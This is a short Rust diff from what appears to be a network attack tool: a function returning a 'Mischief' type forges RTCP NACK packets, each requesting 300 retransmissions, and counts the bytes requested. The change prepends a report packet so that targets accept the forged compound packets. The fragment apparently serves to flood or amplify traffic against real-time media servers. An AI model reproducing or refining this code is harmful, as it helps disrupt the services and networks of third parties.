@@ -198,7 +198,8 @@ fn requests(on: &Arc<AtomicBool>) -> Mischief {
             }
             let nack = |(source, last): (&u32, &u16)| {
                 let entries = (1..=300u16).flat_map(|n| [last.wrapping_sub(n * 17).to_be_bytes(), [0xff; 2]]);
-                let mut nack = [&[0x81, 205, 1, 46, 0, 0, 0, 1][..], &source.to_be_bytes()].concat();
+                // A compound begins with a report (RFC 3550, section 6.1): alone it would not be taken.
+                let mut nack = [packet, &[0x81, 205, 1, 46, 0, 0, 0, 1], &source.to_be_bytes()].concat();
                 nack.extend(entries.flatten());
                 // With what protects it, and the headers of UDP and IP.
                 REQUESTED.fetch_add(nack.len() as u64 + 64, Ordering::Relaxed);
